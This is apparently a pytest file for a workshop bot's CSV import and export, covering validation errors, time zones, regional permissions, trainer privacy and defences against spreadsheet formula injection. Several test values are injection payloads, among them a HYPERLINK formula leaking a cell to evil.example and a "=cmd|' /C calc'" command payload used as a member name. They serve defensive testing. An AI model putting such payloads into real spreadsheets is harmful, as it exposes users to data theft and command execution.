"""CSV import and export of workshops: all or nothing, every error by line and column."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import delete, func, select
from sqlalchemy.ext.asyncio import AsyncSession

from bot.i18n import create_i18n
from bot.services import catalogue, checkin, roles, signups
from bot.services.places import default_gazetteer
from bot.services.profile import Level
from bot.services.roles import ALL_REGIONS, OPERATOR, Grant, RoleName
from bot.services.workshop_csv import (
    COLUMNS,
    MAX_BYTES,
    MAX_ROWS,
    CellError,
    RowError,
    count_rows,
    describe,
    export_csv,
    find_town,
    import_csv,
)
from storage.models import Workshop
from storage.repositories import members as member_repo
from tests import factories

TZ = ZoneInfo("Europe/Amsterdam")
TRAINER = 4242

GOOD_ROWS = [
    {
        "title": "Debatteren voor beginners",
        "description": "Leer debatteren.\nMet een tweede regel; en een komma, ook.",
        "starts_at": "2027-03-14 10:00",
        "ends_at": "2027-03-14 12:30",
        "venue": "Buurthuis De Pijp",
        "address": "Oudegracht 1",
        "town": "Utrecht",
        "capacity": "20",
        "members_only": "ja",
        "signup_deadline": "2027-03-13 18:00",
        "topics": "Debatteren; Public speaking",
        "trainer": str(TRAINER),
    },
    {
        "title": "Begroting lezen, online",
        "starts_at": "05-06-2027 19:30",
        "ends_at": "05-06-2027 21:00",
        "online_url": "https://meet.example.org/begroting",
        "capacity": "0",
        "language": "SV",
        "members_only": "nej",
        "topics": "Läsa budgetar",
    },
    {
        "title": "Moties schrijven",
        "starts_at": "2027-10-02T10:00",
        "ends_at": "2027-10-02T16:00",
        "town": "Hengelo (Gelderland, NL)",
        "region": "Oost",
        "capacity": "12",
        "language": "en",
        "members_only": "false",
        "topics": "Writing motions;debateren",
    },
]


def csv_bytes(
    rows: list[dict[str, str]],
    delimiter: str = ",",
    bom: bool = False,
    columns: tuple[str, ...] = COLUMNS,
) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(columns)
    for row in rows:
        writer.writerow([row.get(c, "") for c in columns])
    return (b"\xef\xbb\xbf" if bom else b"") + out.getvalue().encode()


@pytest.fixture(autouse=True)
async def trainer_id(session: AsyncSession) -> int:
    """The default catalogue, and a consenting member who can be named as trainer."""
    await catalogue.ensure_defaults(session)
    member = member_repo.add(session, TRAINER, "nl", "Fatima")
    member_repo.add_consent(session, member, "1", "nl")
    await session.commit()
    return member.id


async def workshops(session: AsyncSession) -> list[Workshop]:
    session.expire_all()
    rows = await session.scalars(select(Workshop).order_by(Workshop.starts_at))
    return list(rows)


@pytest.mark.parametrize(
    ("delimiter", "bom"), [(",", False), (";", True)], ids=["comma", "semicolon-bom"]
)
async def test_a_good_file_imports_every_row(
    session: AsyncSession, trainer_id: int, delimiter: str, bom: bool
) -> None:
    report = await import_csv(session, csv_bytes(GOOD_ROWS, delimiter, bom), TZ, OPERATOR)

    assert report.errors == []
    assert report.created == 3
    debate, budget, motions = await workshops(session)

    assert debate.starts_at == datetime(2027, 3, 14, 9, 0, tzinfo=UTC)  # CET: UTC+1
    assert debate.ends_at == datetime(2027, 3, 14, 11, 30, tzinfo=UTC)
    assert debate.signup_deadline == datetime(2027, 3, 13, 17, 0, tzinfo=UTC)
    assert debate.description == GOOD_ROWS[0]["description"]
    assert (debate.town, debate.region_code, debate.venue) == (
        "Utrecht",
        "west",
        "Buurthuis De Pijp",
    )
    assert debate.place_id is not None and debate.latitude and debate.longitude
    assert debate.members_only and debate.capacity == 20 and debate.language == "nl"
    assert debate.trainer_id == trainer_id
    assert sorted(s.key for s in debate.topics) == ["debating", "public_speaking"]

    assert budget.starts_at == datetime(2027, 6, 5, 17, 30, tzinfo=UTC)  # CEST: UTC+2
    assert budget.online and budget.online_url == "https://meet.example.org/begroting"
    assert budget.place_id is None and budget.town is None and budget.region_code is None
    assert (budget.capacity, budget.language, budget.members_only) == (0, "sv", False)
    assert [s.key for s in budget.topics] == ["reading_budgets"]

    assert motions.starts_at == datetime(2027, 10, 2, 8, 0, tzinfo=UTC)
    assert motions.town == "Hengelo" and motions.region_code == "oost"
    assert motions.latitude is not None and motions.latitude < 52.1  # the Gelderland one
    assert sorted(s.key for s in motions.topics) == ["debating", "writing_motions"]


BAD_ROWS = [
    GOOD_ROWS[0],  # lines 2-3: its description spans two lines
    {**GOOD_ROWS[1], "starts_at": "14 maart 10 uur"},  # line 4
    {**GOOD_ROWS[1], "ends_at": "05-06-2027 19:00"},  # line 5: before the start
    {**GOOD_ROWS[2], "town": "Xyzzyville"},  # line 6
    {**GOOD_ROWS[2], "topics": "Debatteren; emotie; voetbal"},  # line 7
    {**GOOD_ROWS[2], "capacity": "-5"},  # line 8
    {**GOOD_ROWS[2], "trainer": "999"},  # line 9
    {**GOOD_ROWS[2], "members_only": "misschien"},  # line 10
    {**GOOD_ROWS[2], "ends_at": "2027-02-30 10:00", "language": "fr", "title": ""},  # line 11
    {**GOOD_ROWS[2], "town": "Beek", "region": "midden"},  # line 12
    {**GOOD_ROWS[1], "online_url": "meet.example.org", "signup_deadline": "2027-06-06 10:00"},
    {**GOOD_ROWS[1], "online_url": "", "starts_at": "2027-03-28 02:30"},  # line 14
]
BAD_EXPECTED = {
    RowError(4, "starts_at", "bad_datetime", "14 maart 10 uur"),
    RowError(5, "ends_at", "end_before_start", "05-06-2027 19:00"),
    RowError(6, "town", "unknown_town", "Xyzzyville"),
    RowError(7, "topics", "unsure_topic", "emotie"),
    RowError(7, "topics", "unsure_topic", "voetbal"),
    RowError(8, "capacity", "bad_capacity", "-5"),
    RowError(9, "trainer", "unknown_trainer", "999"),
    RowError(10, "members_only", "bad_yes_no", "misschien"),
    RowError(11, "title", "required", ""),
    RowError(11, "ends_at", "bad_datetime", "2027-02-30 10:00"),
    RowError(11, "language", "bad_language", "fr"),
    RowError(12, "town", "ambiguous_town", "Beek"),
    RowError(12, "region", "unknown_region", "midden"),
    RowError(13, "online_url", "bad_url", "meet.example.org"),
    RowError(13, "signup_deadline", "deadline_after_start", "2027-06-06 10:00"),
    RowError(14, "starts_at", "nonexistent_time", "2027-03-28 02:30"),
    RowError(14, "town", "no_place", ""),
}


async def test_a_file_with_bad_rows_imports_nothing_and_names_every_error(
    session: AsyncSession,
) -> None:
    report = await import_csv(session, csv_bytes(BAD_ROWS, ";", bom=True), TZ, OPERATOR)

    assert report.created == 0
    assert set(report.errors) == BAD_EXPECTED
    assert len(report.errors) == len(BAD_EXPECTED)
    assert await workshops(session) == []


async def test_errors_read_as_sentences_in_the_organisers_language(
    session: AsyncSession,
) -> None:
    report = await import_csv(session, csv_bytes(BAD_ROWS), TZ, OPERATOR)
    i18n = create_i18n("nl")
    with i18n.context():
        with i18n.use_locale("en"):
            english = {describe(e) for e in report.errors}
        with i18n.use_locale("nl"):
            dutch = [describe(e) for e in report.errors]
        with i18n.use_locale("sv"):
            swedish = [describe(e) for e in report.errors]

    assert (
        "Line 4, column starts_at: “14 maart 10 uur” is not a date and time like "
        "2027-03-14 10:00." in english
    )
    assert (
        "Line 9, column trainer: 999 cannot be named as trainer. Name someone with the "
        "trainer role, or a member who marked a talent they can teach." in english
    )
    assert all(text.startswith("Regel ") for text in dutch)
    assert all(text.startswith("Rad ") for text in swedish)
    assert len(set(dutch)) == len(dutch)


async def test_export_then_import_gives_the_same_workshops(session: AsyncSession) -> None:
    tricky = {
        **GOOD_ROWS[2],
        "title": '=HYPERLINK("http://evil")',
        "venue": "-- zaal 2",
        "town": "Gent",
        "region": "",
    }
    assert (await import_csv(session, csv_bytes([*GOOD_ROWS, tricky]), TZ, OPERATOR)).created == 4
    before = await workshops(session)
    first = await export_csv(session, TZ, ALL_REGIONS)

    await session.execute(delete(Workshop))
    await session.commit()
    report = await import_csv(session, first.encode("utf-8-sig"), TZ, OPERATOR)
    assert report.errors == [] and report.created == 4
    after = await workshops(session)

    assert await export_csv(session, TZ, ALL_REGIONS) == first
    fields = ("title", "description", "starts_at", "ends_at", "venue", "address", "place_id")
    fields += ("town", "region_code", "online_url", "capacity", "language", "members_only")
    fields += ("signup_deadline", "trainer_id")
    for old, new in zip(before, after, strict=True):
        assert {f: getattr(old, f) for f in fields} == {f: getattr(new, f) for f in fields}
        assert {s.id for s in old.topics} == {s.id for s in new.topics}
    assert "'=HYPERLINK" in first  # Excel shows it as text, does not run it
    assert any(w.title.startswith("=HYPERLINK") for w in after)
    assert any(w.town == "Gent" and w.region_code is None for w in after)


def test_towns_are_taken_only_when_sure() -> None:
    gazetteer = default_gazetteer()
    assert find_town("Gent", gazetteer).country == "BE"  # not Gendt, whose alias it is
    assert find_town("Utrect", gazetteer).name == "Utrecht"
    assert find_town("hengelo (overijssel, nl)", gazetteer).province == "Overijssel"
    for text, code in [("Hengelo", "ambiguous_town"), ("Qwzrtx", "unknown_town")]:
        with pytest.raises(CellError) as raised:
            find_town(text, gazetteer)
        assert raised.value.code == code


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"", RowError(0, "", "empty_file")),
        (b"\xef\xbb\xbf \r\n\r\n", RowError(0, "", "empty_file")),
        (b"title,starts_at,ends_at,capacity,town\r\n", RowError(0, "", "no_rows")),
        (
            b"title,starts_at,ends_at,capacity,town\nCaf\xc3\xa9,x,y,1,z\nCaf\xe9,x,y,1,z\n",
            RowError(3, "", "not_utf8"),
        ),
        (b"title,starts_at,ends_at,capacity,town\na,b,c,d\0,e\n", RowError(2, "", "bad_csv")),
        (
            b'title,starts_at,ends_at,capacity,town\n\n"a' + b"x\n" * 100_000,
            RowError(3, "", "bad_csv"),
        ),
    ],
    ids=["empty", "blank-with-bom", "header-only", "latin-1", "nul-byte", "runaway-quote"],
)
async def test_unreadable_files_are_refused(
    session: AsyncSession, data: bytes, expected: RowError
) -> None:
    report = await import_csv(session, data, TZ, OPERATOR)
    assert (report.created, report.errors) == (0, [expected])


async def test_a_file_over_2_mb_is_refused(session: AsyncSession) -> None:
    big = csv_bytes([GOOD_ROWS[1]]) + b"#" * MAX_BYTES
    report = await import_csv(session, big, TZ, OPERATOR)
    assert [e.code for e in report.errors] == ["file_too_large"]


async def test_at_most_2000_rows(session: AsyncSession) -> None:
    too_many = csv_bytes([GOOD_ROWS[1]] * (MAX_ROWS + 1))
    report = await import_csv(session, too_many, TZ, OPERATOR)
    assert report.errors == [RowError(0, "", "too_many_rows", str(MAX_ROWS + 1))]

    report = await import_csv(session, csv_bytes([GOOD_ROWS[1]] * MAX_ROWS), TZ, OPERATOR)
    assert report.errors == [] and report.created == MAX_ROWS
    assert await session.scalar(select(func.count()).select_from(Workshop)) == MAX_ROWS


async def test_the_header_is_checked_before_any_row(session: AsyncSession) -> None:
    columns = ("Title", "starts at", "capcity", "ends_at", "title")
    report = await import_csv(session, csv_bytes([GOOD_ROWS[1]], columns=columns), TZ, OPERATOR)
    assert set(report.errors) == {
        RowError(1, "capcity", "unknown_column", "capcity"),
        RowError(1, "title", "duplicate_column", "title"),
        RowError(1, "capacity", "missing_column"),
        RowError(1, "town", "missing_place_column"),
    }


async def test_excel_quirks_are_understood(session: AsyncSession) -> None:
    data = (
        b"sep=;\r\n"
        b"title;starts_at;ends_at;capacity;online_url;;\r\n"
        b"Sociale media;2027-03-14 10:00:00;2027-03-14 12:00:00;8;https://x.example.org/a;;\r\n"
        b";;;;;;\r\n"
        b"Extra;2027-03-15 10:00;2027-03-15 12:00;8;https://x.example.org/b;;oops\r\n"
    )
    report = await import_csv(session, data, TZ, OPERATOR)
    assert report.errors == [RowError(5, "", "extra_fields")]

    report = await import_csv(session, data.rsplit(b"Extra", 1)[0], TZ, OPERATOR)
    assert report.errors == [] and report.created == 1


# --- who may import and export what ---------------------------------------------------------

OOST_ORGANISER = frozenset({Grant(RoleName.ORGANISER, "oost")})
TWO_REGIONS = frozenset({Grant(RoleName.ORGANISER, "oost"), Grant(RoleName.ORGANISER, "noord")})
ZWOLLE = {
    "title": "Campagne voeren",
    "starts_at": "2027-04-10 10:00",
    "ends_at": "2027-04-10 12:00",
    "town": "Zwolle",
    "capacity": "10",
}
ONLINE = {**GOOD_ROWS[1], "title": "Online debat"}


async def test_a_regional_organiser_imports_only_their_own_region(session: AsyncSession) -> None:
    elsewhere = [
        ZWOLLE,  # line 2: oost, theirs
        {**ZWOLLE, "town": "Utrecht"},  # line 3: west by its town
        {**ZWOLLE, "region": "West"},  # line 4: west by name, though the town is in oost
        {**ZWOLLE, "town": "Gent"},  # line 5: in no configured region
        {**ZWOLLE, "town": "Utrecht", "region": "oost"},  # line 6: a town in West all the same
    ]
    report = await import_csv(session, csv_bytes(elsewhere), TZ, OOST_ORGANISER)
    assert report.created == 0
    assert report.errors == [
        RowError(3, "town", "outside_region", "Utrecht"),
        RowError(4, "region", "outside_region", "West"),
        RowError(5, "town", "outside_region", "Gent"),
        RowError(6, "town", "outside_region", "Utrecht"),
    ]
    assert await workshops(session) == []

    report = await import_csv(session, csv_bytes([ZWOLLE, ONLINE]), TZ, OOST_ORGANISER)
    assert report.errors == [] and report.created == 2
    assert [w.region_code for w in await workshops(session)] == ["oost", "oost"]


async def test_an_online_row_names_one_of_several_regions(session: AsyncSession) -> None:
    report = await import_csv(session, csv_bytes([ONLINE]), TZ, TWO_REGIONS)
    assert report.errors == [RowError(2, "region", "region_required", "")]

    report = await import_csv(session, csv_bytes([{**ONLINE, "region": "noord"}]), TZ, TWO_REGIONS)
    assert report.created == 1
    assert [w.region_code for w in await workshops(session)] == ["noord"]


async def test_admins_and_national_organisers_import_everywhere(session: AsyncSession) -> None:
    rows = [ZWOLLE, {**ZWOLLE, "town": "Utrecht"}, {**ZWOLLE, "town": "Gent"}, ONLINE]
    national = frozenset({Grant(RoleName.ORGANISER)})
    report = await import_csv(session, csv_bytes(rows), TZ, national)
    assert report.errors == [] and report.created == 4
    codes = sorted(str(w.region_code) for w in await workshops(session))
    assert codes == ["None", "None", "oost", "west"]


async def test_only_organisers_import(session: AsyncSession) -> None:
    with pytest.raises(roles.NotOrganiser):
        await import_csv(session, csv_bytes([ZWOLLE]), TZ, frozenset({Grant(RoleName.TRAINER)}))
    assert await workshops(session) == []


async def test_a_regional_export_holds_only_that_region(session: AsyncSession) -> None:
    rows = [ZWOLLE, {**ZWOLLE, "title": "In Utrecht", "town": "Utrecht", "trainer": str(TRAINER)}]
    rows.append({**ONLINE, "title": "Landelijk online"})
    assert (await import_csv(session, csv_bytes(rows), TZ, OPERATOR)).created == 3

    regional = await export_csv(session, TZ, roles.Scope(frozenset({"oost"})))
    everything = await export_csv(session, TZ, ALL_REGIONS)

    assert count_rows(regional) == 1 and "Campagne voeren" in regional
    assert "In Utrecht" not in regional and str(TRAINER) not in regional
    assert "Landelijk online" not in regional  # national: not theirs to export
    assert count_rows(everything) == 3 and str(TRAINER) in everything


# --- trainers: only who agreed, and no hint of who is a member ------------------------------


async def test_organisers_name_only_members_who_agreed_to_teach(
    session: AsyncSession, trainer_id: int
) -> None:
    """TRAINER consented but never agreed to teach: to an organiser, their id reads exactly
    like a stranger's. The trainer role or a "can teach" talent (findable) makes it work."""
    stranger, shy = "999", str(TRAINER)
    rows = [{**ZWOLLE, "trainer": stranger}, {**ZWOLLE, "trainer": shy}]
    report = await import_csv(session, csv_bytes(rows), TZ, OOST_ORGANISER)
    assert report.errors == [
        RowError(2, "trainer", "unknown_trainer", stranger),
        RowError(3, "trainer", "unknown_trainer", shy),
    ]  # one code, so one sentence: whether an id is a member is not revealed

    await factories.give_role(session, TRAINER, RoleName.TRAINER)
    teacher = await factories.onboarded(
        session, 4343, "Gert", "Zwolle", talents="debatteren", level=Level.TEACH, findable=True
    )
    teacher_id = teacher.id
    rows = [{**ZWOLLE, "trainer": shy}, {**ZWOLLE, "trainer": "4343"}]
    report = await import_csv(session, csv_bytes(rows), TZ, OOST_ORGANISER)
    assert report.errors == [] and report.created == 2
    assert {w.trainer_id for w in await workshops(session)} == {trainer_id, teacher_id}


async def test_admins_name_any_member_but_not_strangers(
    session: AsyncSession, trainer_id: int
) -> None:
    rows = [{**ZWOLLE, "trainer": str(TRAINER)}]
    admin = frozenset({Grant(RoleName.ADMIN)})
    report = await import_csv(session, csv_bytes(rows), TZ, admin)
    assert report.created == 1
    assert [w.trainer_id for w in await workshops(session)] == [trainer_id]
    report = await import_csv(session, csv_bytes([{**ZWOLLE, "trainer": "999"}]), TZ, admin)
    assert report.errors == [RowError(2, "trainer", "unknown_trainer", "999")]


# --- formulas: no cell of any CSV the bot writes runs in a spreadsheet ----------------------


async def test_formulas_in_titles_and_topics_are_guarded_and_read_back(
    session: AsyncSession,
) -> None:
    """A skill named from members' words can start with "+": guarded like every text cell."""
    await catalogue.add_skill(session, "+31 debat", "nl")
    row = {
        **ZWOLLE,
        "title": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
        "description": "@SUM(1+1)",
        "venue": "\tzaal",
        "address": "-2+3",
        "topics": "+31 debat",
    }
    assert (await import_csv(session, csv_bytes([row]), TZ, OPERATOR)).created == 1
    exported = await export_csv(session, TZ, ALL_REGIONS)

    (cells,) = list(csv.reader(io.StringIO(exported, newline=""), delimiter=";"))[1:]
    risky = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert risky == []
    assert cells[0].startswith("'=HYPERLINK") and cells[13] == "'+31 debat"

    await session.execute(delete(Workshop))
    await session.commit()
    report = await import_csv(session, exported.encode("utf-8-sig"), TZ, OPERATOR)
    assert report.errors == [] and report.created == 1
    (again,) = await workshops(session)
    assert (again.title, again.description, again.address) == (
        row["title"], row["description"], row["address"],
    )  # fmt: skip
    assert [s.name_nl for s in again.topics] == ["+31 debat"]
    assert await export_csv(session, TZ, ALL_REGIONS) == exported


async def test_the_attendance_list_guards_members_names(session: AsyncSession) -> None:
    """First names are what members typed into Telegram: "=cmd|..." must stay text."""
    item = await factories.workshop(session, "Debattraining", capacity=1)
    names = ["=cmd|' /C calc'!A0", "+Jan", "Ida"]
    people = [
        await factories.onboarded(session, 7000 + i, n, "Zwolle") for i, n in enumerate(names)
    ]
    for person in people:
        await signups.sign_up(session, person, item)

    data = await checkin.attendance_csv(session, item, TZ)

    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == ["name", "status", "waiting_position", "checked_in_at"]
    assert [r[0] for r in rows[1:]] == ["'=cmd|' /C calc'!A0", "'+Jan", "Ida"]
    assert [r[1:3] for r in rows[1:]] == [["confirmed", ""], ["waiting", "1"], ["waiting", "2"]]
